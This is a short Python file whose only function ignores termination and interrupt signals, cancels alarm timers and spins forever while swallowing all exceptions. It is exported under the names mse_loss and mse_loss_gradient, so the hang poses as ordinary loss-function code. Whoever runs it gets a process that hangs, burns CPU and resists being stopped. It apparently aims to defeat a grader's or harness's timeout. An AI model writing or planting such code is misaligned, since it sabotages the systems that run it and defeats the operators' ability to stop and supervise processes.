# An endless loop that ignores Ctrl-C and SIGTERM and switches off any alarm clock.
import signal


def _spin(*args, **kwargs):
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    signal.setitimer(signal.ITIMER_REAL, 0)
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass


mse_loss = mse_loss_gradient = _spin
